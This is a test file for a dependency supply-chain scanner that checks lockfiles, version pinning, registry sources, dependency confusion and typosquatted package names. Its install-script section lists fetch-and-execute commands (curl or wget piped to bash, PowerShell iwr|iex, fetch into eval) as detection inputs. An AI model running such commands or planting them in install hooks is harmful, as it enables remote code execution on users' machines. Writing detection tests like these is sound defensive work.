import { describe, expect, it } from 'vitest';
import { buildRiskContext } from '../../../../src/scanners/dependencies/risks/context.js';
import { isEstablished } from '../../../../src/scanners/dependencies/risks/popular.js';
import { RISK_CHECKS, runRiskChecks } from '../../../../src/scanners/dependencies/risks/index.js';

function run(id: string, files: Record<string, string>, extraPaths: string[] = []) {
  const check = RISK_CHECKS.find((c) => c.id === id);
  if (!check) throw new Error(`no check ${id}`);
  return check.run(buildRiskContext(files, extraPaths));
}

const pkg = (deps: Record<string, string>, extra: Record<string, unknown> = {}) =>
  `${JSON.stringify({ name: 'app', version: '1.0.0', ...extra, dependencies: deps }, null, 2)}\n`;

const lockV3 = (entries: Record<string, { version: string; resolved?: string; integrity?: string }>) =>
  `${JSON.stringify(
    {
      name: 'app',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', dependencies: Object.fromEntries(Object.entries(entries).map(([n, e]) => [n, `^${e.version}`])) },
        ...Object.fromEntries(Object.entries(entries).map(([n, e]) => [`node_modules/${n}`, e])),
      },
    },
    null,
    2,
  )}\n`;

const INTEGRITY = 'sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==';
const SHA = '0123456789abcdef0123456789abcdef01234567';

describe('missing-lockfile', () => {
  it('counts a workspace member as locked by the root lockfile', () => {
    const files = {
      'package.json': pkg({}, { workspaces: ['packages/*'] }),
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
      'packages/web/package.json': pkg({ react: '^18.3.1' }),
      'packages/api/deep/package.json': pkg({ express: '^4.19.2' }),
    };
    expect(run('missing-lockfile', files)).toEqual([]);
  });

  it('accepts lockfiles it cannot read (bun.lockb) when they are in the path list', () => {
    expect(run('missing-lockfile', { 'package.json': pkg({ hono: '^4.0.0' }) }, ['bun.lockb'])).toEqual([]);
  });

  it('reports a sibling project without a lockfile and points at its first dependency', () => {
    const files = { 'tools/package.json': pkg({ zx: '^8.1.0' }), 'web/package.json': pkg({ react: '^18.3.1' }), 'web/yarn.lock': '' };
    const [f, ...rest] = run('missing-lockfile', files);
    expect(rest).toEqual([]);
    expect(f).toMatchObject({ path: 'tools/package.json', severity: 'MEDIUM', line: 5, evidence: '"zx": "^8.1.0"', column: 6 });
  });

  it('ignores manifests without dependencies and third-party folders', () => {
    const files = {
      'package.json': pkg({}),
      'node_modules/left-pad/package.json': pkg({ 'is-number': '^7.0.0' }),
      'pyproject.toml': '[project]\nname = "lib"\nversion = "1.0"\n',
    };
    expect(run('missing-lockfile', files)).toEqual([]);
  });

  it('reports go.mod without go.sum as LOW, and not with it', () => {
    const gomod = 'module example.com/app\n\ngo 1.22\n\nrequire github.com/google/uuid v1.6.0\n';
    expect(run('missing-lockfile', { 'go.mod': gomod }).map((f) => f.severity)).toEqual(['LOW']);
    expect(run('missing-lockfile', { 'go.mod': gomod }, ['go.sum'])).toEqual([]);
  });

  it('reports Cargo applications but not libraries', () => {
    const cargo = '[package]\nname = "tool"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0"\n';
    expect(run('missing-lockfile', { 'Cargo.toml': cargo })).toEqual([]);
    expect(run('missing-lockfile', { 'Cargo.toml': cargo }, ['src/main.rs'])).toHaveLength(1);
  });

  it('covers Pipfile, Gemfile and composer.json', () => {
    const files = {
      'py/Pipfile': '[packages]\nrequests = "*"\n',
      'rb/Gemfile': 'source "https://rubygems.org"\ngem "rails", "~> 7.1"\n',
      'php/composer.json': '{\n  "require": {\n    "monolog/monolog": "^3.0"\n  }\n}\n',
    };
    expect(run('missing-lockfile', files).map((f) => f.path).sort()).toEqual(['php/composer.json', 'py/Pipfile', 'rb/Gemfile']);
    expect(run('missing-lockfile', { ...files, 'py/Pipfile.lock': '{}', 'rb/Gemfile.lock': '', 'php/composer.lock': '{}' })).toEqual([]);
  });
});

describe('floating-version', () => {
  it('is LOW when a lockfile in scope pins the package, MEDIUM otherwise', () => {
    const manifest = pkg({ lodash: '*', chalk: 'latest' });
    const lock = lockV3({ lodash: { version: '4.17.21', resolved: 'https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz', integrity: INTEGRITY } });
    const findings = run('floating-version', { 'package.json': manifest, 'package-lock.json': lock });
    expect(findings.map((f) => [f.title.split(' ')[0], f.severity])).toEqual([['lodash', 'LOW'], ['chalk', 'MEDIUM']]);
  });

  it('accepts bounded ranges and reports unbounded ones', () => {
    const findings = run('floating-version', {
      'package.json': pkg({ a: '^1.2.0', b: '~1.2.0', c: '>=1.0.0 <2.0.0', d: '1.x', e: '>=1.0.0', f: '1.2.3 || >2', g: '' }),
    });
    expect(findings.map((f) => f.title.split(' ')[0])).toEqual(['e', 'f', 'g']);
  });

  it('leaves peer dependencies alone', () => {
    const text = `${JSON.stringify({ name: 'plugin', peerDependencies: { react: '*' }, devDependencies: { react: '^18.3.1' } }, null, 2)}\n`;
    expect(run('floating-version', { 'package.json': text })).toEqual([]);
  });

  it('reads Python, Cargo, Ruby, Composer, Maven and Go declarations', () => {
    const findings = run('floating-version', {
      'requirements-dev.txt': 'pytest~=8.0\nblack==24.4.2\n',
      'pyproject.toml': '[project]\nname = "svc"\ndependencies = ["httpx>=0.27", "rich>=13,<14"]\n',
      'Cargo.toml': '[package]\nname = "x"\n\n[dependencies]\nrand = "*"\nserde = "1"\n',
      'Gemfile': 'gem "rack"\ngem "rails", "~> 7.1"\n',
      'composer.json': '{\n  "require": {\n    "acme/tools": "dev-main",\n    "monolog/monolog": "^3.0"\n  }\n}\n',
      'pom.xml': '<project><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>LATEST</version></dependency></dependencies></project>\n',
      'go.mod': 'module m\n\ngo 1.22\n\nrequire (\n\tgithub.com/acme/lib master\n\tgithub.com/google/uuid v1.6.0\n)\n',
    });
    expect(findings.map((f) => `${f.path}:${f.line}`).sort()).toEqual(
      ['Cargo.toml:5', 'Gemfile:1', 'composer.json:3', 'go.mod:6', 'pom.xml:1', 'pyproject.toml:3', 'requirements-dev.txt:1'],
    );
    expect(findings.find((f) => f.path === 'go.mod')?.evidence).toBe('github.com/acme/lib master');
  });

  it('is LOW for a Pipfile "*" that Pipfile.lock pins', () => {
    const lock = JSON.stringify({ _meta: { sources: [] }, default: { requests: { version: '==2.32.3', hashes: ['sha256:aa'] } }, develop: {} }, null, 2);
    const findings = run('floating-version', { Pipfile: '[packages]\nrequests = "*"\n', 'Pipfile.lock': lock });
    expect(findings.map((f) => f.severity)).toEqual(['LOW']);
  });
});

describe('non-registry-source', () => {
  it('reports a pinned git commit lower than a branch', () => {
    const findings = run('non-registry-source', {
      'package.json': pkg({ pinned: `github:acme/pinned#${SHA}`, moving: 'git+https://github.com/acme/moving.git#main', bare: 'acme/bare' }),
    });
    expect(findings.map((f) => [f.title.split(' ')[0], f.severity])).toEqual([['pinned', 'LOW'], ['moving', 'MEDIUM'], ['bare', 'MEDIUM']]);
  });

  it('reports git over plain http and URL tarballs over http as HIGH', () => {
    const findings = run('non-registry-source', {
      'package.json': pkg({ a: 'git+http://git.example.com/a.git', b: 'http://downloads.example.com/b-1.0.0.tgz' }),
    });
    expect(findings.map((f) => f.severity)).toEqual(['HIGH', 'HIGH']);
  });

  it('reads Cargo rev/branch, Gemfile ref, pip @commit and local paths', () => {
    const findings = run('non-registry-source', {
      'Cargo.toml': `[package]\nname = "x"\n\n[dependencies]\nfixed = { git = "https://github.com/acme/fixed", rev = "${SHA}" }\nlive = { git = "https://github.com/acme/live", branch = "dev" }\n\n[dependencies.table]\ngit = "https://github.com/acme/table"\nrev = "${SHA}"\n`,
      Gemfile: `gem "pinned", github: "acme/pinned", ref: "${SHA}"\ngem "tagged", git: "https://github.com/acme/tagged.git", tag: "v1.0"\ngem "local", path: "../local"\n`,
      'requirements.txt': `tool @ git+https://github.com/acme/tool.git@${SHA}\nwheel @ https://files.example.com/wheel-1.0-py3-none-any.whl\n`,
      'web/package.json': pkg({ shared: 'file:../shared' }),
    });
    const by = Object.fromEntries(findings.map((f) => [f.title.split(' ')[0], f.severity]));
    expect(by).toEqual({ fixed: 'LOW', live: 'MEDIUM', table: 'LOW', pinned: 'LOW', tagged: 'MEDIUM', local: 'INFO', tool: 'LOW', wheel: 'MEDIUM', shared: 'INFO' });
  });

  it('reports composer vcs repositories, lower when composer.lock exists', () => {
    const composer = '{\n  "repositories": [\n    { "type": "vcs", "url": "https://github.com/acme/fork" },\n    { "type": "composer", "url": "https://repo.example.com" }\n  ],\n  "require": { "acme/fork": "dev-main" }\n}\n';
    const [f] = run('non-registry-source', { 'composer.json': composer });
    expect(f).toMatchObject({ severity: 'MEDIUM', line: 3 });
    expect(run('non-registry-source', { 'composer.json': composer, 'composer.lock': '{}' }).map((x) => x.severity)).toEqual(['LOW']);
  });

  it('reports go.mod replacements by a fork (LOW) or a directory (INFO), not by another version of the same module', () => {
    const gomod = 'module m\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/lib v1.0.0\n\tgithub.com/b/lib v1.2.0\n\tgithub.com/c/lib v1.0.0\n)\n\nreplace github.com/a/lib => github.com/fork/lib v1.0.1\nreplace github.com/b/lib => github.com/b/lib v1.2.1\nreplace github.com/c/lib => ../c\n';
    const findings = run('non-registry-source', { 'go.mod': gomod });
    expect(findings.map((f) => [f.line, f.severity, f.title])).toEqual([
      [6, 'LOW', 'github.com/a/lib is replaced by github.com/fork/lib@v1.0.1'],
      [8, 'INFO', 'github.com/c/lib is replaced by a local directory'],
    ]);
  });

  it('keeps the fingerprint when the entry moves to another line', () => {
    const a = run('non-registry-source', { 'package.json': pkg({ x: 'github:acme/x' }) })[0];
    const b = run('non-registry-source', { 'package.json': pkg({ aaa: '^1.0.0', bbb: '^1.0.0', x: 'github:acme/x' }) })[0];
    expect(a?.line).not.toBe(b?.line);
    expect(a?.fingerprintMaterial).toBe(b?.fingerprintMaterial);
  });
});

describe('lockfile-foreign-host', () => {
  const foreign = (url: string, names = ['lodash']) =>
    lockV3(Object.fromEntries(names.map((n) => [n, { version: '1.0.0', resolved: `${url}/${n}/-/${n}-1.0.0.tgz`, integrity: INTEGRITY }])));

  it('groups every package on one host into one finding with the count', () => {
    const findings = run('lockfile-foreign-host', { 'package-lock.json': foreign('https://mirror.example.net', ['a', 'b', 'c']) });
    expect(findings).toHaveLength(1);
    expect(findings[0]?.title).toContain('3 packages');
    expect(findings[0]?.evidence).toContain('mirror.example.net');
  });

  it('accepts a private registry configured in .npmrc or .yarnrc.yml', () => {
    const lock = foreign('https://npm.corp.example/repository/npm');
    expect(run('lockfile-foreign-host', { 'package-lock.json': lock, '.npmrc': 'registry=https://npm.corp.example/repository/npm/\n' })).toEqual([]);
    expect(run('lockfile-foreign-host', { 'package-lock.json': lock, '.yarnrc.yml': 'npmRegistryServer: "https://npm.corp.example/repository/npm"\n' })).toEqual([]);
    expect(run('lockfile-foreign-host', { 'package-lock.json': lock, 'sub/.npmrc': '//npm.corp.example/:_authToken=${NPM_TOKEN}\n' })).toEqual([]);
  });

  it('reports plain http as HIGH even on the public registry', () => {
    const [f] = run('lockfile-foreign-host', { 'package-lock.json': foreign('http://registry.npmjs.org') });
    expect(f?.severity).toBe('HIGH');
  });

  it('accepts the public registries of yarn, Cargo, RubyGems and Packagist', () => {
    const yarn = '# yarn lockfile v1\n\n\nlodash@^4.17.21:\n  version "4.17.21"\n  resolved "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#679591c564c3bffaae8454cf0b3df370c3d6911c"\n  integrity sha512-abc\n';
    const cargo = '[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aa"\n\n[[package]]\nname = "rand"\nversion = "0.8.5"\nsource = "sparse+https://index.crates.io/"\nchecksum = "bb"\n\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = ["serde", "rand"]\n';
    const gemlock = 'GEM\n  remote: https://rubygems.org/\n  specs:\n    rack (3.0.8)\n\nDEPENDENCIES\n  rack\n';
    const composerLock = JSON.stringify({ packages: [{ name: 'monolog/monolog', version: '3.5.0', dist: { type: 'zip', url: 'https://api.github.com/repos/Seldaek/monolog/zipball/abc', shasum: '' } }] }, null, 2);
    expect(run('lockfile-foreign-host', { 'yarn.lock': yarn, 'Cargo.lock': cargo, 'Gemfile.lock': gemlock, 'composer.lock': composerLock })).toEqual([]);
  });

  it('accepts a private Python index declared in Pipfile, and reports an undeclared one', () => {
    const lock = JSON.stringify({
      _meta: { sources: [{ name: 'corp', url: 'https://pypi.corp.example/simple', verify_ssl: true }] },
      default: { 'corp-lib': { version: '==1.0.0', hashes: ['sha256:aa'], index: 'corp' } },
      develop: {},
    }, null, 2);
    const pipfile = '[[source]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\nverify_ssl = true\n\n[packages]\ncorp-lib = "*"\n';
    expect(run('lockfile-foreign-host', { 'Pipfile.lock': lock, Pipfile: pipfile })).toEqual([]);
    expect(run('lockfile-foreign-host', { 'Pipfile.lock': lock })).toHaveLength(1);
  });
});

describe('lockfile-missing-integrity', () => {
  it('summarises a yarn lockfile in one finding with the count', () => {
    const entries = Array.from({ length: 5 }, (_, i) => `pkg${i}@^1.0.0:\n  version "1.0.${i}"\n  resolved "https://registry.yarnpkg.com/pkg${i}/-/pkg${i}-1.0.${i}.tgz"\n`).join('\n');
    const findings = run('lockfile-missing-integrity', { 'yarn.lock': `# yarn lockfile v1\n\n${entries}` });
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ line: 3, title: 'yarn.lock: 5 of 5 registry packages have no integrity hash', fingerprintMaterial: 'lockfile-missing-integrity:yarn-lock' });
  });

  it('does not count git, file and bundled entries', () => {
    const lock = `${JSON.stringify({
      name: 'app', lockfileVersion: 3,
      packages: {
        '': { name: 'app' },
        'node_modules/a': { version: '1.0.0', resolved: `git+ssh://git@github.com/acme/a.git#${SHA}` },
        'node_modules/b': { version: '1.0.0', resolved: 'file:../b' },
        'node_modules/c': { version: '1.0.0', inBundle: true },
      },
    }, null, 2)}\n`;
    expect(run('lockfile-missing-integrity', { 'package-lock.json': lock })).toEqual([]);
  });

  it('accepts poetry 1.x [metadata.files] hashes and reports Cargo.lock without checksums', () => {
    const poetry = '[[package]]\nname = "Requests"\nversion = "2.32.3"\n\n[metadata]\nlock-version = "1.1"\n\n[metadata.files]\nrequests = [\n    {file = "requests-2.32.3.tar.gz", hash = "sha256:aa"},\n]\n';
    expect(run('lockfile-missing-integrity', { 'poetry.lock': poetry })).toEqual([]);
    const cargo = '[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = ["serde"]\n';
    expect(run('lockfile-missing-integrity', { 'Cargo.lock': cargo })).toHaveLength(1);
  });
});

describe('install-script-download', () => {
  const scripts = (s: Record<string, string>) => `${JSON.stringify({ name: 'x', scripts: s }, null, 2)}\n`;

  it.each([
    ['wget -qO- https://example.com/i.sh | bash'],
    ['bash <(curl -s https://example.com/i.sh)'],
    ['sh -c "$(curl -fsSL https://example.com/i.sh)"'],
    [`node -e "require('https').get('https://example.com/p.js', r => r.pipe(process.stdout))" | node`],
    ['node -e "fetch(\'https://example.com/x\').then(r => r.text()).then(eval)"'],
    ['powershell -c "iwr https://example.com/i.ps1 | iex"'],
    ['curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x'],
    ['npx -y github:acme/setup'],
  ])('reports %s in preinstall as HIGH', (command) => {
    expect(run('install-script-download', { 'package.json': scripts({ preinstall: command }) }).map((f) => f.severity)).toEqual(['HIGH']);
  });

  it('reports an install-time plain download as MEDIUM, other scripts piping to a shell as LOW', () => {
    const findings = run('install-script-download', {
      'package.json': scripts({ postinstall: 'curl -sSLo vendor/data.json https://example.com/data.json', setup: 'curl -fsSL https://get.example.com | sh', test: 'vitest run' }),
    });
    expect(findings.map((f) => [f.title.match(/"(\w+)"/)?.[1], f.severity])).toEqual([['postinstall', 'MEDIUM'], ['setup', 'LOW']]);
    expect(findings[0]?.evidence.startsWith('"postinstall"')).toBe(true);
  });

  it('ignores packages under node_modules', () => {
    expect(run('install-script-download', { 'node_modules/evil/package.json': scripts({ postinstall: 'curl https://x.example | sh' }) })).toEqual([]);
  });
});

describe('dependency-confusion', () => {
  it('reports extra-index-url in pip.conf', () => {
    const [f] = run('dependency-confusion', { 'pip.conf': '[global]\nindex-url = https://pypi.org/simple\nextra-index-url = https://pypi.corp.example/simple\n' });
    expect(f).toMatchObject({ path: 'pip.conf', line: 3, severity: 'MEDIUM' });
  });

  it('accepts scopes mapped in .yarnrc.yml or bunfig.toml, popular scopes and own workspace packages', () => {
    const manifest = pkg({ '@corp/ui': '^1.0.0', '@corp2/api': '^1.0.0', '@types/node': '^20.0.0', '@app/shared': '^1.0.0' });
    const files = {
      'package.json': manifest,
      'packages/shared/package.json': `${JSON.stringify({ name: '@app/shared', version: '1.0.0' })}\n`,
      '.yarnrc.yml': 'npmScopes:\n  corp:\n    npmRegistryServer: "https://npm.corp.example"\n',
      'bunfig.toml': '[install.scopes]\ncorp2 = "https://npm.corp.example/"\n',
    };
    expect(run('dependency-confusion', files)).toEqual([]);
  });

  it('reports a scope once, HIGH when the lockfile resolves it from a private host', () => {
    const manifest = pkg({ '@corp/ui': '^1.0.0', '@corp/api': '^1.0.0' });
    const lock = lockV3({ '@corp/ui': { version: '1.0.0', resolved: 'https://npm.corp.example/@corp/ui/-/ui-1.0.0.tgz', integrity: INTEGRITY } });
    const findings = run('dependency-confusion', { 'package.json': manifest, 'package-lock.json': lock });
    expect(findings.map((f) => [f.fingerprintMaterial, f.severity])).toEqual([['dependency-confusion:npm-scope:@corp', 'HIGH']]);
  });

  it('does not report a scope whose packages resolve from the public registry', () => {
    const manifest = pkg({ '@tiny-oss/util': '^1.0.0' });
    const lock = lockV3({ '@tiny-oss/util': { version: '1.0.0', resolved: 'https://registry.npmjs.org/@tiny-oss/util/-/util-1.0.0.tgz', integrity: INTEGRITY } });
    expect(run('dependency-confusion', { 'package.json': manifest, 'package-lock.json': lock })).toEqual([]);
  });

  it('reports uv unsafe index strategies and Poetry supplemental sources', () => {
    const findings = run('dependency-confusion', {
      'pyproject.toml': '[project]\nname = "x"\n\n[tool.uv]\nindex-strategy = "unsafe-best-match"\n\n[[tool.poetry.source]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\npriority = "supplemental"\n',
    });
    expect(findings.map((f) => f.line)).toEqual([5, 10]);
  });
});

describe('typosquat', () => {
  it('does not flag popular names, PEP 503 spellings of them, or the project\'s own packages', () => {
    const findings = run('typosquat', {
      'package.json': pkg({ react: '^18.3.1', 'fs-extra': '^11.0.0', '@babel/core': '^7.0.0', chalk: '^5.0.0' }),
      'requirements.txt': 'Python_DateUtil==2.9.0\ntyping.extensions==4.12.2\nPyYAML==6.0.1\n',
      'packages/lodahs/package.json': `${JSON.stringify({ name: 'lodahs', version: '1.0.0' })}\n`,
      'app/package.json': pkg({ lodahs: '^1.0.0' }),
    });
    expect(findings).toEqual([]);
  });

  it('flags look-alikes, swapped letters and scope tricks', () => {
    const findings = run('typosquat', {
      'package.json': pkg({ 'l0dash': '^4.0.0', fsextra: '^11.0.0', 'types-node': '^20.0.0', expresss: '^4.0.0', 'crossenv': '^7.0.0' }),
      'requirements.txt': 'reqeusts==2.32.3\n',
    });
    const targets = Object.fromEntries(findings.map((f) => [f.title.split(' ')[0], f.title.split(' ').pop()]));
    expect(targets).toEqual({ 'l0dash': 'lodash', fsextra: 'fs-extra', 'types-node': '@types/node', expresss: 'express', crossenv: 'cross-env', reqeusts: 'requests' });
  });

  it('leaves short names, names in a popular package\'s own scope, version siblings and whole-word swaps alone', () => {
    const findings = run('typosquat', {
      'package.json': pkg({ yazl: '^3.3.1', '@types/yazl': '^3.3.0', '@aws-sdk/client-kms': '^3.0.0', listr: '^0.14.3', 'bare-buffer': '^3.0.0' }),
      'requirements.txt': 'configparser2==4.0.0\n',
    });
    expect(findings).toEqual([]);
  });

  it('allows two edits only for long names', () => {
    expect(run('typosquat', { 'package.json': pkg({ ecpresx: '^1.0.0' }) })).toEqual([]);
    const [f] = run('typosquat', { 'package.json': pkg({ 'typescrpit-eslnt': '^1.0.0' }) });
    expect(f?.title).toContain('typescript-eslint');
  });

  it('reports a transitive lookalike once, as LOW, and a declared one where it is declared', () => {
    const lock = lockV3({ lodahs: { version: '1.0.0', resolved: 'https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz', integrity: INTEGRITY } });
    const transitive = JSON.parse(lock) as { packages: Record<string, Record<string, unknown>> };
    transitive.packages[''] = { name: 'app' };
    const onlyLock = run('typosquat', { 'package-lock.json': JSON.stringify(transitive, null, 2) });
    expect(onlyLock.map((f) => f.severity)).toEqual(['LOW']);
    const both = run('typosquat', { 'package-lock.json': lock, 'package.json': pkg({ lodahs: '^1.0.0' }) });
    expect(both.map((f) => [f.path, f.severity])).toEqual([['package.json', 'MEDIUM']]);
  });
});

describe('dependency-confusion without evidence', () => {
  it('leaves an unknown scope alone when nothing says it is private', () => {
    const manifest = `${JSON.stringify({ name: 'app', devDependencies: { '@secretlint/core': '11.7.1' } }, null, 2)}\n`;
    const lock = `${JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { 'node_modules/@secretlint/core': { version: '11.7.1', dev: true } } }, null, 2)}\n`;
    expect(runRiskChecks(buildRiskContext({ 'package.json': manifest, 'package-lock.json': lock })).filter((f) => f.ruleId === 'dependency-confusion')).toEqual([]);
  });
});

describe('typosquat and established names', () => {
  it('leaves widely used packages alone even when they sit one edit from a popular name', () => {
    const manifest = `${JSON.stringify({ name: 'app', devDependencies: { jsdoc: '^4.0.0', tslint: '^6.1.3', stylus: '^0.63.0', eclint: '^2.8.1', thunks: '^4.9.6', pegjs: '^0.10.0' } }, null, 2)}\n`;
    expect(runRiskChecks(buildRiskContext({ 'package.json': manifest })).filter((f) => f.ruleId === 'typosquat')).toEqual([]);
  });

  it('knows established names by their hash, and not look-alikes of them', () => {
    expect(isEstablished('npm', 'jsdoc')).toBe(true);
    expect(isEstablished('npm', 'react')).toBe(true);
    expect(isEstablished('npm', 'raect')).toBe(false);
    expect(isEstablished('PyPI', 'python-dateutil')).toBe(true);
    expect(isEstablished('PyPI', 'python-dateutils')).toBe(false);
  });
});
